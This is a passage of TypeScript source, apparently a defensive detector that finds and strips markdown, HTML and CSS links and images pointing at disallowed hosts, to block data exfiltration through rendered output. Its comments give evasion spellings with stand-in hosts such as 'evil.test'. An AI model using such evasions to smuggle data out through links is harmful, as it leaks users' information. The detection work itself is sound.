 * there is not CSS (the end of a tag or of a style element, prose), so reading stops at them.
 */
function endsSetArgs(c: number): boolean {
  return c === 0x3b || c === 0x7b || c === 0x7d || c === 0x3c || c === 0x3e || c === 0x3a || c === 0x21 || c === 0x3f || c === 0x40 ||
    c === 0x3d || c === 0x5b || c === 0x5d || c === 0x26 || c === 0x24 || c === 0x7c || c === 0x7e || c === 0x5e || c === 0x60;
}

/**
 * Reads the arguments of an image-set( whose '(' is at p, to its ')' (parentheses of nested functions
 * counted; strings, comments, escapes and url( tokens skipped as CSS skips them) or to a character
 * that ends it (endsSetArgs). Each string whose innermost function is image-set( or
 * -webkit-image-set( (a nested one too; not type("…"), and not the string of a url("…"), which the
 * url( pass finds) is added to `out`. Returns where reading stopped (after the ')', or at the
 * character that ended it), whether the ')' closed it, and whether reading reached the end of the
 * text (more text may add a string). Reads each character once.
 */
function readImageSet(t: string, p: number, out: CssString[], esc: (i: number) => boolean): { end: number; open: boolean; closed: boolean } {
  const L = t.length;
  const takesStrings: boolean[] = [true]; // per function still open
  let i = p + 1;
  while (i < L) {
    const c = t.charCodeAt(i);
    if (c === 0x22 || c === 0x27) {
      const e = cssStringEnd(t, i);
      const valueEnd = e >= L ? L : e < 0 ? -e - 1 : e;
      if (takesStrings[takesStrings.length - 1]) {
        out.push({ start: i, end: e >= 0 && e < L ? e + 1 : valueEnd, valueStart: i + 1, valueEnd });
      }
      if (e >= L) return { end: L, open: true, closed: false };
      i = e < 0 ? -e - 1 : e + 1; // unclosed at a line break: reading goes on after it
    } else if (c === 0x2f && t.charCodeAt(i + 1) === 0x2a) {
      const close = t.indexOf('*/', i + 2);
      if (close < 0) return { end: L, open: true, closed: false };
      i = close + 2;
    } else if (c === 0x5c) i += 2;
    else if (c === 0x28) {
      const u = urlNameBefore(t, i, esc);
      if (u < 0) {
        takesStrings.push(setNameBefore(t, i, esc) >= 0);
        i++;
        continue;
      }
      const m = urlToken(t, u, i + 1);
      if (m === null) {
        takesStrings.push(false); // url() without a value: its ')' is read as any other
        i++;
      } else if (m.open) return { end: L, open: true, closed: false };
      else if (t.charCodeAt(m.end - 1) !== 0x29) return { end: m.end, open: false, closed: false }; // a bad url: CSS drops the declaration
      else i = m.end;
    } else if (c === 0x29) {
      takesStrings.pop();
      i++;
      if (takesStrings.length === 0) return { end: i, open: false, closed: true };
    } else if (endsSetArgs(c)) return { end: i, open: false, closed: false };
    else i++;
  }
  return { end: L, open: true, closed: false };
}

/**
 * Start of a url or image-set name still being written at the very end of t ("u", "ur", "url",
 * "image-se", "-webkit-i", and escaped spellings: "u\7", "\75 r"), not continuing an identifier:
 * '(' may yet follow. t.length if none. Reads the last word; the run an escaped name can be written
 * with (nameRunBefore) only when that word follows a '\' or the whitespace after a hex digit.
 */
function nameAtEnd(t: string): number {
  const L = t.length;
  // The trailing run of letters, digits and '-', and in it the trailing run of letters and '-'.
  let w = L;
  let plain = -1;
  while (w > 0 && L - w <= ESCAPE_MAX * LONGEST_NAME) {
    const c = t.charCodeAt(w - 1);
    if (c >= 48 && c <= 57) plain = plain < 0 ? w : plain;
    else if (!(isAsciiAlnum(c) || c === 45)) break;
    w--;
  }
  if (plain < 0) plain = w;
  const before = w > 0 ? t.charCodeAt(w - 1) : -1;
  const escaped = before === 0x5c || (isCssWs(before) && w >= 2 && hexValue(t.charCodeAt(before === 10 && t.charCodeAt(w - 2) === 13 ? w - 3 : w - 2)) >= 0);
  if (escaped && t.indexOf('\\', Math.max(0, L - ESCAPE_MAX * LONGEST_NAME)) >= 0) {
    const r = nameRunBefore(t, L, Math.max(0, L - ESCAPE_MAX * LONGEST_NAME));
    for (let s = r < 0 ? -r - 1 : r; s < L; s++) if (nameStartsAt(t, s)) return s;
    return L;
  }
  return plain < L && L - plain <= LONGEST_NAME && nameStartsAt(t, plain) ? plain : L;
}

/** Whether a url or image-set name that may run to the end of t starts at t[s] (nameAtEnd). */
function nameStartsAt(t: string, s: number): boolean {
  // The first unit: '\' (any name), 'u', 'i' or '-'.
  const c = t.charCodeAt(s);
  const first = c === 0x5c ? 0 : (c | 0x20) === 0x75 ? 1 : (c | 0x20) === 0x69 ? 2 : c === 0x2d ? 3 : -1;
  if (first < 0 || (s > 0 && isCssIdent(t.charCodeAt(s - 1)))) return false;
  return (first <= 1 && nameMayEnd(t, s, URL_NAMES[0])) || ((first & 1) === 0 && nameMayEnd(t, s, SET_NAMES[0])) ||
    ((first === 0 || first === 3) && nameMayEnd(t, s, SET_NAMES[1]));
}

/**
 * CSS `url(…)` tokens (`url` in any case, not continuing an identifier), `@import` followed by
 * whitespace or comments and a string, and `image-set(…)` / `-webkit-image-set(…)` calls with their
 * string arguments (readImageSet), in a text read as CSS wherever it is; a name may be written with CSS escapes
 * (`u\72l(`, `@\69mport`, `image-\73 et(`: cssNameAt). And `open`, the smallest index from which
 * later text could add or change one (an open construct, an image-set( whose arguments run to the
 * end, or a name still being written at the very end: "u", "ur", "url", "image-se", "u\7", "@imp" …),
 * else t.length. Every url( is read on its own (a value cannot hold '(', so two unquoted values never
 * overlap; a string ends at the next quote of its kind, so two strings of one kind never overlap: each
 * character is read a bounded number of times); an @import found inside what an earlier one read (its
 * comment or string) is skipped, and so is an image-set( inside the arguments of an earlier one (read
 * with them). Escaped names are looked for only before a '(' that follows a '\' somewhere, each in a
 * bounded run before it. Single pass, linear. `nameAtEndOpen` false: a name being written at the end
 * is not looked for (the scan needs only the matches; the hold needs `open`).
 */
export function cssMatches(t: string, nameAtEndOpen = true): { matches: CssMatch[]; open: number } {
  const L = t.length;
  const matches: CssMatch[] = [];
  let open = L;
  let firstBackslash = -2;
  const esc = (i: number): boolean => {
    if (firstBackslash === -2) firstBackslash = t.indexOf('\\');
    return firstBackslash >= 0 && firstBackslash < i;
  };
  let setEnd = 0; // where reading the last image-set( stopped
  let unsorted = false;
  for (let p = t.indexOf('(', 3); p >= 0; p = t.indexOf('(', p + 1)) {
    const u = urlNameBefore(t, p, esc);
    if (u >= 0) {
      const m = urlToken(t, u, p + 1);
      if (m === null) continue;
      matches.push(u === p - 3 ? m : { ...m, nameEnd: p + 1 });
      if (m.open && m.start < open) open = m.start;
      continue;
    }
    if (p < setEnd) continue;
    const s = setNameBefore(t, p, esc);
    if (s < 0) continue;
    const strings: CssString[] = [];
    const r = readImageSet(t, p, strings, esc);
    setEnd = r.end;
    if (r.open && s < open) open = s;
    if (strings.length > 0 || r.open) {
      matches.push({ start: s, end: r.end, valueStart: r.end, valueEnd: r.end, kind: 'set', open: r.open, strings, closed: r.closed, nameEnd: p + 1 });
      unsorted = true;
    }
  }
  // A name still being written at the very end may become url( or image-set(.
  if (nameAtEndOpen) open = Math.min(open, nameAtEnd(t));
  let readEnd = 0;
  let imports = false;
  for (let a = t.indexOf('@'); a >= 0; a = t.indexOf('@', a + 1)) {
    if (a < readEnd) continue;
    let k = cssNameAt(t, a + 1, IMPORT);
    if (k === NAME_OPEN || k >= L) {
      if (a < open) open = a; // "@", "@imp", "@import", "@\6" at the end
      break;
    }
    if (k === NAME_NO || isCssIdent(t.charCodeAt(k))) continue; // not @import (or @imports …)
    // Whitespace and comments, then a string.
    for (;;) {
      while (k < L && isCssWs(t.charCodeAt(k))) k++;
      if (k < L && t.charCodeAt(k) === 0x2f && (k + 1 >= L || t.charCodeAt(k + 1) === 0x2a)) {
        const close = k + 1 >= L ? -1 : t.indexOf('*/', k + 2);
        if (close < 0) {
          k = L;
          break;
        }
        k = close + 2;
      } else break;
    }
    if (k >= L) {
      // Still in whitespace or a comment: reported (empty) so that one longer than LINK_HOLD is cut.
      matches.push({ start: a, end: L, valueStart: L, valueEnd: L, kind: 'import', open: true });
      imports = true;
      if (a < open) open = a;
      break;
    }
    const q = t.charCodeAt(k);
    if (q !== 0x22 && q !== 0x27) {
      readEnd = k + 1;
      continue;
    }
    const e = cssStringEnd(t, k);
    if (e >= L) {
      matches.push({ start: a, end: L, valueStart: k + 1, valueEnd: L, kind: 'import', open: true });
      imports = true;
      if (a < open) open = a;
      break;
    }
    const end = e < 0 ? -e - 1 : e + 1;
    matches.push({ start: a, end, valueStart: k + 1, valueEnd: e < 0 ? -e - 1 : e, kind: 'import', open: false });
    imports = true;
    readEnd = end;
  }
  if (imports || unsorted) matches.sort((x, y) => x.start - y.start);
  return { matches, open };
}

/**
 * The refresh URL of a meta tag's `content` (HTML's declarative refresh: a time, then ';' or ',' and
 * the URL, optionally after "url=" and in quotes), or null.
 */
function refreshUrl(content: string): string | null {
  const L = content.length;
  let i = 0;
  const ws = (c: number): boolean => isCssWs(c);
  while (i < L && ws(content.charCodeAt(i))) i++;
  const t0 = i;
  while (i < L && ((content.charCodeAt(i) >= 48 && content.charCodeAt(i) <= 57) || content.charCodeAt(i) === 46)) i++;
  if (i === t0) return null;
  while (i < L && ws(content.charCodeAt(i))) i++;
  if (i < L && (content.charCodeAt(i) === 59 || content.charCodeAt(i) === 44)) i++;
  while (i < L && ws(content.charCodeAt(i))) i++;
  if (i >= L) return null;
  if (content.slice(i, i + 3).toLowerCase() === 'url') {
    let k = i + 3;
    while (k < L && ws(content.charCodeAt(k))) k++;
    if (content.charCodeAt(k) === 61) {
      i = k + 1;
      while (i < L && ws(content.charCodeAt(i))) i++;
    }
  }
  const q = content[i];
  if (q === '"' || q === "'") {
    const e = content.indexOf(q, i + 1);
    return content.slice(i + 1, e < 0 ? L : e);
  }
  return content.slice(i);
}

/** Up to the first whitespace (a srcset candidate's URL). */
function firstWord(x: string): string {
  const s = x.trim();
  let i = 0;
  while (i < s.length && !isCssWs(s.charCodeAt(i))) i++;
  return s.slice(0, i);
}

/**
 * An attribute value as a URL: decoded, and when it starts with a quote (an iframe's `srcdoc` writes
 * the quotes of its own document as references) what that quote encloses.
 */
function attrUrl(raw: string): string {
  const v = raw.includes('&') ? decodeCharRefs(raw).text : raw;
  const s = v.trimStart();
  const q = s[0];
  if (q !== '"' && q !== "'") return v;
  const e = s.indexOf(q, 1);
  return s.slice(1, e < 0 ? s.length : e);
}

const OPEN_ATTR = compile('exfil/open-attr', '\\b(?:src|href|action|data|poster|srcset|background|formaction|ping)\\s*=\\s*', 'i');

/**
 * A markdown link or image, or a fetching HTML tag, still open at the end of `text` and longer than
 * LINK_HOLD, whose URL (as far as it goes) points at a host the verdict (`verdict` for markdown,
 * `htmlVerdict` for an attribute value) does not allow: where it starts,
 * or null. In a stream that is a link longer than the hold-back: the engine must release text more
 * than LINK_HOLD behind the input, and releasing the link's start would let the client render it once
 * the rest arrived. The scan reports [start, end - LINK_HOLD), which the engine can decide, so the
 * opener is removed and what follows is released as plain URL characters (streams stay within their
 * hold-back). In a whole text it is broken markup at its very end, treated the same way. A label's "[" inside a
 * fenced code block is none (inFencedCode), where the text is known from its start (`fromStart`: a whole text,
 * or a stream's window at the start of its channel): a later window that starts inside a block would take its
 * closing fence for an opening one, so there the opener goes as before.
 */
function openLinkAtEnd(text: string, md: string, verdict: Verdict, htmlVerdict: Verdict, fromStart: boolean): { start: number; end?: number; image: boolean; data: boolean; what: string } | null {
  const L = text.length;
  // Markdown (read in the joined copy): the last "](" whose URL runs to the end.
  const close = md.lastIndexOf('](');
  if (close >= 0 && L - close > LINK_HOLD) {
    let k = close + 2;
    while (k < L && (md.charCodeAt(k) === 32 || md.charCodeAt(k) === 9)) k++;
    const angle = md[k] === '<';
    if (angle) k++;
    const urlStart = k;
    // INLINE_PATTERN's destinations: in `<…>` anything but '<', '>' and a line break; otherwise (also
    // when a '<' opens no such one) DEST.
    if (angle) {
      while (k < L) {
        const c = md.charCodeAt(k);
        if (c === 60 || c === 62 || c === 10) break;
        k++;
      }
    }
    if (k < L && destinationEnd(md, urlStart - (angle ? 1 : 0)) === -1) k = L;
    if (k === L && L - urlStart > 0) {
      let from = close;
      while (from > 0 && md.charCodeAt(from - 1) !== 0x5d && md.charCodeAt(from - 1) !== 0x0a) from--;
      const p = md.indexOf('[', from);
      const v = verdict(md.slice(urlStart));
      if (v !== null) {
        // Without an opener it reads, from the "](" (whatever opened it, nothing is left to fetch).
        if (p < 0 || p >= close) return { start: close, image: true, data: v.data, what: 'markdown destination still open' };
        const image = p > 0 && md.charCodeAt(p - 1) === 0x21;
        return { start: image ? p - 1 : p, image, data: v.data, what: image ? 'markdown image still open' : 'markdown link still open' };
      }
    }
  }
  // Markdown: a label still open LINK_HOLD after its '[' (the candidate a later "](" would take: the
  // first '[' after the last ']' or paragraph break; read after a URL still open, which may hold a
  // '['). Only its opener is reported: the text after it stays, and no later "](" can make an image or
  // link of it.
  const after = Math.max(md.lastIndexOf(']'), md.lastIndexOf('\n')) + 1;
  const q = md.indexOf('[', after);
  if (q >= 0 && L - q > LINK_HOLD && !(fromStart && inFencedCode(text, q))) {
    const image = q > 0 && md.charCodeAt(q - 1) === 0x21;
    return { start: image ? q - 1 : q, end: q + 1, image, data: false, what: image ? 'markdown image description still open' : 'markdown link text still open' };
  }
  // HTML: the first fetching tag opener after the last '>' (a quoted value may hold '<').
  const gt = text.lastIndexOf('>');
  if (L - gt - 1 > LINK_HOLD) {
    const open = matchAll(HTML_OPEN, text.slice(gt + 1))[0];
    const lt = open === undefined ? -1 : gt + 1 + open.start;
    if (open !== undefined && L - lt > LINK_HOLD) {
      const tag = text.slice(lt, L);
      let worst: { data: boolean } | null = null;
      for (const a of matchAll(OPEN_ATTR, tag)) {
        const q = tag[a.end];
        const from = q === '"' || q === "'" ? a.end + 1 : a.end;
        let to = from;
        while (to < tag.length && (q === '"' || q === "'" ? tag[to] !== q : !bareStop(tag.charCodeAt(to)))) to++;
        const v = htmlVerdict(tag.slice(from, to));
        if (v !== null && (worst === null || v.data)) worst = v;
      }
      if (worst !== null) {
        const name = (open.groups[0] ?? '').toLowerCase();
        return { start: lt, image: name !== 'a', data: worst.data, what: `html ${name} still open` };
      }
    }
  }
  return null;
}

/**
 * text[q] is inside a fenced code block that starts at a line's first column (tool output an answer
 * shows as code: "```\n-rwxr-xr-x … [\n…"), whether or not the block is closed yet. Its content is code,
 * never a link's text, and a later "](" cannot pair with it: after the closing fence the block is over.
 * Only fences without indentation count: an indented one may belong to a list item that a later line
 * ends, taking the block with it. The opening line must be complete (a backquote later on it would make
 * it no fence); a closing fence is the same character, at least as many, up to three spaces before it
 * and blanks after. Reads each line before q once.
 */
function inFencedCode(text: string, q: number): boolean {
  let open = 0; // length of the fence that is open (0: none)
  let fence = 0; // its character
  let line = 0;
  while (line <= q) {
    const nl = text.indexOf('\n', line);
    const end = nl < 0 ? text.length : nl;
    if (open === 0) {
      const c = text.charCodeAt(line);
      let k = line;
      if (c === 0x60 || c === 0x7e) while (k < end && text.charCodeAt(k) === c) k++;
      let info = k;
      if (c === 0x60) while (info < end && text.charCodeAt(info) !== 0x60) info++;
      if (k - line >= 3 && nl >= 0 && nl < q && (c === 0x7e || info === end)) {
        open = k - line;
        fence = c;
      }
    } else {
      let k = line;
      while (k < end && k - line < 3 && text.charCodeAt(k) === 0x20) k++;
      const f = k;
      while (k < end && text.charCodeAt(k) === fence) k++;
      let b = k;
      while (b < end && (text.charCodeAt(b) === 0x20 || text.charCodeAt(b) === 0x09 || text.charCodeAt(b) === 0x0d)) b++;
      if (k - f >= open && b === end) open = 0;
    }
    if (nl < 0) break;
    line = nl + 1;
  }
  return open > 0;
}

interface HostMatcher {
  allowed(host: string): boolean;
}

function hostMatcher(globs: readonly string[]): HostMatcher {
  const exact = new Set<string>();
  const suffixes: string[] = [];
  let any = false;
  for (const g0 of globs) {
    const g = g0.trim().toLowerCase();
    if (g === '*') any = true;
    else if (g.startsWith('*.')) suffixes.push(g.slice(1));
    else if (g.length > 0) exact.add(g);
  }
  return {
    allowed(host: string): boolean {
      if (any) return true;
      const h = host.toLowerCase();
      const hh = h.endsWith('.') ? h.slice(0, -1) : h; // fully qualified form "example.com."
      return exact.has(hh) || suffixes.some((s) => hh.endsWith(s));
    },
  };
}

type Verdict = (url: string) => { data: boolean } | null;

/** Base that relative URLs are resolved against: a reserved name no URL of another host resolves to. */
const RELATIVE_BASE = 'https://relative.invalid/';

/**
 * Host of an absolute or protocol-relative URL with a fetchable scheme, or null (relative, data:,
 * mailto: …). A URL that is not absolute is resolved as a page would resolve it: what leaves the page's
 * host is protocol-relative however it is spelled (`//h`, `/\h`, `\\h`, `/<TAB>/h`: a URL parser treats
 * '\' as '/' and drops tabs and newlines).
 */
export function externalHost(raw: string): { host: string; data: boolean } | null {
  let s = raw.trim();
  if (s.startsWith('<') && s.endsWith('>')) s = s.slice(1, -1);
  let u = URL.parse(s);
  if (u === null) {
    u = URL.parse(s, RELATIVE_BASE);
    if (u === null || u.host === 'relative.invalid') return null;
  }
  if (u.protocol !== 'http:' && u.protocol !== 'https:' && u.protocol !== 'ftp:' && u.protocol !== 'ws:' && u.protocol !== 'wss:') return null;
  if (u.hostname.length === 0) return null;
  const longSegment = u.pathname.split('/').some((seg) => seg.length >= 32);
  return { host: u.hostname, data: u.search.length > 1 || u.hash.length > 1 || longSegment || u.username.length > 0 };
}

/** Every top-level domain IANA delegates, lower-case (ASCII and internationalised names). */
const TLDS: ReadonlySet<string> = new Set(ianaTlds as string[]);

/** Characters that end a domain label when reading link text (ASCII punctuation and whitespace, but '-'). */
function endsLabel(c: number): boolean {
  return c <= 0x2c || c === 0x2e || c === 0x2f || (c >= 0x3a && c <= 0x40) || (c >= 0x5b && c <= 0x60) || (c >= 0x7b && c <= 0x7f);
}

/**
 * Whether a link's text may stay when its markup and URL are removed: it must read as nothing but text
 * once they are gone. Renderers link `https://…`, `www.…` and addresses by themselves, and with fuzzy
 * linking (markdown-it's linkify) any `name.tld`, so text holding one of those goes with its link, as
 * does text with brackets, parentheses, angle brackets or character references (markup of its own, or
 * CSS for a reader that decodes them), and text that is only blanks (unless `blank`: the words around
 * an image inside a link may be none).
 */
export function keepableLinkText(t: string, blank = false): boolean {
  let visible = false;
  for (let i = 0; i < t.length; i++) {
    const c = t.charCodeAt(i);
    if (c === 0x3c || c === 0x3e || c === 0x28 || c === 0x29 || c === 0x5b || c === 0x5d || c === 0x40 || c === 0x26) return false;
    if (c > 0x20) visible = true;
    if (c === 0x3a && t.startsWith('//', i + 1)) return false;
    if (c === 0x2e && i > 0 && !endsLabel(t.charCodeAt(i - 1))) {
      let j = i + 1;
      while (j < t.length && !endsLabel(t.charCodeAt(j))) j++;
      const label = t.slice(i + 1, j).toLowerCase();
      if (TLDS.has(label)) return false;
      if (i >= 3 && t.slice(i - 3, i).toLowerCase() === 'www' && (i === 3 || endsLabel(t.charCodeAt(i - 4)))) return false;
    }
  }
  return visible || blank;
}

/**
 * Where a definition's '[' may stand on the line starting at ls: after blanks and block-quote or
 * list-item markers (REF_DEF's prefix), read up to `end`.
 */
export function definitionLead(t: string, ls: number, end: number): number {
  let i = ls;
  for (;;) {
    while (i < end && (t.charCodeAt(i) === 32 || t.charCodeAt(i) === 9)) i++;
    const c = t.charCodeAt(i);
    if (i < end && (c === 0x3e || c === 0x2d || c === 0x2a || c === 0x2b)) {
      i++;
      continue;
    }
    let j = i;
    while (j < end && j - i < 9 && t.charCodeAt(j) >= 0x30 && t.charCodeAt(j) <= 0x39) j++;
    if (j > i && j < end && (t.charCodeAt(j) === 0x2e || t.charCodeAt(j) === 0x29)) {
      i = j + 1;
      continue;
    }
    return i;
  }
}

/** A markdown destination with its backslash escapes of ASCII punctuation removed (CommonMark). */
function mdUnescape(url: string): string {
  let out = '';
  for (let i = 0; i < url.length; i++) {
    const c = url.charCodeAt(i);
    const n = url.charCodeAt(i + 1);
    if (c === 92 && ((n >= 33 && n <= 47) || (n >= 58 && n <= 64) || (n >= 91 && n <= 96) || (n >= 123 && n <= 126))) continue;
    out += url[i];
  }
  return out;
}

/**
 * Where a head match (INLINE_HEAD_PATTERN, LINK_TAIL_HEAD_AT) from `start` to `end` stops being
 * markup: before its title opener and the blanks before that, at the end of its destination.
 */
function headEnd(md: string, start: number, end: number): number {
  let e = end - 1;
  while (e > start && (md.charCodeAt(e - 1) === 32 || md.charCodeAt(e - 1) === 9)) e--;
  return e;
}

/** A reference label as CommonMark matches it: case-folded, blanks at the ends dropped, inner runs one space. */
function refLabel(raw: string): string {
  let out = '';
  let gap = false;
  for (const ch of raw) {
    if (ch === ' ' || ch === '\t' || ch === '\r' || ch === '\n') gap = out.length > 0;
    else {
      if (gap) out += ' ';
      out += ch;
      gap = false;
    }
  }
  return out.toLowerCase();
}

/**
 * Where the image that ends the label of the INLINE match at `start` begins (its '!'), or -1: the
 * label's last '[' with a '!' before it, after the match's own '['.
 */
function imageInLabel(text: string, start: number): number {
  const lb = text.lastIndexOf('[', text.indexOf(']', start + 1));
  return lb - 1 > start && text.charCodeAt(lb - 1) === 0x21 ? lb - 1 : -1;
}

export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
  const hosts = hostMatcher(cfg.allowedHosts ?? []);
  const imagesOnly = cfg.imagesOnly ?? false;
  const keepText = cfg.keepLinkText ?? true;
  /** Finding.keep for a link whose text is text[a, b), when that text may stay. */
  const keepOf = (text: string, start: number, a: number, b: number): KeepRange | undefined =>
    keepText && b > a && keepableLinkText(text.slice(a, b)) ? { from: a - start, to: b - start } : undefined;
  // As written: autolinks (CommonMark decodes no references there) and bare URLs.
  const verdict: Verdict = (url) => {
    const h = externalHost(url);
    if (h === null || hosts.allowed(h.host)) return null;
    return { data: h.data };
  };
  // An HTML attribute value: a browser decodes its references, always.
  const htmlVerdict: Verdict = (url) => verdict(attrUrl(url));
  // A markdown destination or CSS: decoded (CommonMark, a style attribute), and as written for a
  // renderer or a style element that decodes nothing. As written, a host that keeps a '&' of a
  // reference (`evil&#46;example` reads as host "evil&", the rest a fragment) names no host anyone
  // can reach: it is only looked at decoded (so an allowed host written with references stays allowed).
  const eitherVerdict = (url: string, unescape: (s: string) => string = (x) => x): { data: boolean } | null => {
    if (!url.includes('&')) return verdict(unescape(url));
    const d = verdict(unescape(decodeCharRefs(url).text));
    const h = externalHost(unescape(url));
    const r = h === null || h.host.includes('&') || hosts.allowed(h.host) ? null : { data: h.data };
    return d === null ? r : r === null ? d : { data: d.data || r.data };
  };
  // CommonMark also removes backslash escapes from a destination (`https://ok.example\\@evil.test/` is
  // `https://ok.example@evil.test/`, a host the WHATWG parser of the escaped form never sees): both readings.
  const mdVerdict: Verdict = (url) => {
    const v = eitherVerdict(url);
    if (!url.includes('\\')) return v;
    const u = eitherVerdict(mdUnescape(url));
    return v === null ? u : u === null ? v : { data: v.data || u.data };
  };
  // How many iframe srcdoc documents the current scan is inside (each is scanned as a text of its own).
  let srcdocDepth = 0;
  const self: Detector = {
    id: cfg.id,
    maxMatchLength: LINK_HOLD,
    spanwise: true,
    scan(text: string, ctx: DetectionContext): Finding[] {
      if (text.length === 0) return [];
      const out: Finding[] = [];
      // Coverage bitmap: a piece of markup already accounted for is not re-read by a later pass.
      // Allocated on first use (most texts hold no markup at all). 1: an allowed markdown link (its
      // text is not re-read as a reference, nor as a bare URL); 2: a finding. HTML tags, autolinks and
      // CSS inside an allowed link's text are still read: a renderer that passes HTML through renders
      // `[<img src="https://h/x">](https://allowed/)` as an image inside the link.
      let covered: Uint8Array | null = null;
      const overlaps = (s: number, e: number, level = 1): boolean => {
        const c = covered;
        if (c === null) return false;
        for (let i = s; i < e; i++) if (c[i] >= level) return true;
        return false;
      };
      const taken = {
        push: ([s, e]: [number, number], level = 1): void => {
          covered ??= new Uint8Array(text.length);
          if (level === 2) covered.fill(2, s, e);
          else for (let i = s; i < e; i++) if (covered[i] === 0) covered[i] = 1;
        },
      };
      const push = (start: number, end: number, image: boolean, data: boolean, what: string, keep?: KeepRange): void => {
        if (imagesOnly && !image) {
          taken.push([start, end]); // read, and left alone
          return;
        }
        const base = image ? 0.9 : 0.6;
        const score = Math.round(Math.min(1, base + (data ? (image ? 0.05 : 0.2) : 0)) * 100) / 100;
        const explanation = `${what}${data ? DATA_NOTE : ''}, host not allowed`;
        out.push(keep === undefined || image
          ? { detector: cfg.id, type: 'EXFIL_LINK', start, end, score, explanation }
          : { detector: cfg.id, type: 'EXFIL_LINK', start, end, score, explanation, keep });
        taken.push([start, end], 2);
      };
      // Every markdown form has a ']'; an inline link or image has "](" (INLINE cannot match without it).
      // One pass over the ']'s tells whether a "](" and a "]:" occur (two more passes cost what the CSS
      // pass below costs).
      const bracket = text.indexOf(']');
      let inline = false;
      let def = false;
      for (let r = bracket; r >= 0 && !(inline && def); r = text.indexOf(']', r + 1)) {
        const c = text.charCodeAt(r + 1);
        if (c === 0x28) inline = true;
        else if (c === 0x3a) def = true;
      }
      // The markdown forms are read in markdownView's copy (line endings inside paragraphs are spaces,
      // escaped brackets are text).
      let md: string | undefined;
      if (bracket >= 0) {
        // Every form the copies matter to has "](" or "]:"; `lines` is md before its lines are joined.
        const copies = inline || def;
        const lines = copies ? escapedBracketsAsText(text) : text;
        md = copies ? joinLines(lines) : text;
        const closes = inline ? inlineCloses(md) : [];
        for (const m of inline ? inlineMatches(md, false, closes) : []) {
          const v = mdVerdict(m.groups[1] ?? m.groups[2] ?? '');
          const img = m.groups[0] === '' ? imageInLabel(md, m.start) : -1;
          if (img >= 0) {
            // INLINE read a link whose text holds an image, `[see ![alt](img) here](link)` (a badge:
            // `[![alt](img)](link)`), as a link whose text ends "![alt". With the rest of the text and
            // a link tail after the image, it is one finding for both: an image when the image's host
            // is not allowed; when only the link's is not, the link goes and its text stays, image and
            // all, if the words around the image may stay. Without a tail, it is the image alone.
            const rest = linkTextEnd(md, m.end);
            const tail = md.startsWith('](', rest) ? matchAt(LINK_TAIL_AT, md, rest) : null;
            const w = tail === null ? null : mdVerdict(tail.groups[0] ?? tail.groups[1] ?? '');
            if (tail === null) {
              if (v !== null) push(img, m.end, true, v.data, 'markdown image');
              else taken.push([img, m.end]);
            } else if (v !== null) push(m.start, tail.end, true, v.data || (w?.data ?? false), 'markdown linked image');
            else if (w !== null) {
              const words = keepableLinkText(text.slice(m.start + 1, img), true) && keepableLinkText(text.slice(m.end, rest), true);
              push(m.start, tail.end, false, w.data, 'markdown link around an image', keepText && words ? { from: 1, to: rest - m.start } : undefined);
            } else taken.push([m.start, tail.end]);
            continue;
          }
          if (v === null) taken.push([m.start, m.end]); // allowed: its text must not be re-read as a reference
          else if (m.groups[0] === '!') push(m.start, m.end, true, v.data, 'markdown image');
          else push(m.start, m.end, false, v.data, 'markdown link', keepOf(text, m.start, m.start + 1, md.indexOf(']', m.start + 1)));
        }
        // Heads whose title INLINE does not read: the markup up to the end of the destination goes.
        // (Only at closes no whole match took: a head there would overlap it.)
        for (const h of inline ? inlineMatches(md, true, closes.filter((c) => !overlaps(c, c + 2))) : []) {
          if (overlaps(h.start, h.end)) continue;
          const v = mdVerdict(h.groups[1] ?? h.groups[2] ?? '');
          const end = headEnd(md, h.start, h.end);
          if (v === null) taken.push([h.start, end]);
          else if (h.groups[0] === '!') push(h.start, end, true, v.data, 'markdown image, title not read');
          else push(h.start, end, false, v.data, 'markdown link, title not read', keepOf(text, h.start, h.start + 1, md.indexOf(']', h.start + 1)));
        }
        // Every destination tail "](…)" that no match above accounts for, to a host not allowed:
        // CommonMark reads link text the patterns do not (balanced brackets `![[a]](…)`, code spans
        // `![`]`](…)`, raw HTML `![<b title="]">x</b>](…)`). Whatever opened it, the tail goes (up to
        // the end of its destination when its title is not read) and nothing is left to fetch; scored
        // as an image, since the opener is not known. A tail nothing opens (`x](https://…)`) goes too:
        // whether something does may lie before what a stream still holds.
        for (const c of closes) {
          if (overlaps(c, c + 2)) continue;
          const full = matchAt(LINK_TAIL_AT, md, c);
          const t = full ?? matchAt(LINK_TAIL_HEAD_AT, md, c);
          if (t === null) continue;
          const v = mdVerdict(t.groups[0] ?? t.groups[1] ?? '');
          if (v === null) continue;
          push(c, full === null ? headEnd(md, c, t.end) : t.end, true, v.data, 'markdown destination, opener not read');
        }
        // Reference-style: collect definitions, then usages whose label points at a bad definition.
        const bad = new Map<string, { data: boolean }>();
        const defs: { start: number; end: number; readonly label: string; readonly data: boolean }[] = [];
        if (def) {
          // Line by line (escaped brackets as text), and in markdownView's copy for a definition whose
          // label runs over a line ending (one that starts its paragraph: a definition cannot interrupt
          // one). The same definition read both ways spans the longer reading, without the blanks that
          // end it (in the joined copy those may be line endings).
          const at = new Map<number, number>();
          for (const m of md === lines ? matchAll(REF_DEF, lines) : [...matchAll(REF_DEF, lines), ...matchAll(REF_DEF, md)]) {
            let end = m.end;
            while (end > m.start && isWsCode(text.charCodeAt(end - 1))) end--;
            const seen = at.get(m.start);
            if (seen !== undefined) {
              defs[seen].end = Math.max(defs[seen].end, end);
              continue;
            }
            const label = refLabel(m.groups[0] ?? '');
            const v = mdVerdict(m.groups[1] ?? '');
            if (v === null) continue;
            bad.set(label, v);
            at.set(m.start, defs.length);
            // From its '[': the container markers before it stay.
            defs.push({ start: text.indexOf('[', m.start), end, label, data: v.data });
          }
          defs.sort((a, b) => a.start - b.start);
        }
        if (bad.size > 0) {
          const imageLabels = new Set<string>();
          for (const m of matchAll(REF_USE, md)) {
            if (overlaps(m.start, m.end) || defs.some((d) => m.start >= d.start && m.start < d.end)) continue;
            if (md[m.end] === ':' || md[m.end] === '(') continue;
            const explicit = m.groups[2];
            const label = refLabel(explicit !== undefined && explicit.length > 0 ? explicit : m.groups[1] ?? '');
            const v = bad.get(label);
            if (v === undefined) continue;
            const image = m.groups[0] === '!';
            if (image) imageLabels.add(label);
            const at = m.start + 1 + (image ? 1 : 0);
            push(m.start, m.end, image, v.data, image ? 'markdown reference image' : 'markdown reference link', keepOf(text, m.start, at, at + (m.groups[1] ?? '').length));
          }
          for (const d of defs) push(d.start, d.end, imageLabels.has(d.label), d.data, 'markdown reference definition');
        }
      }
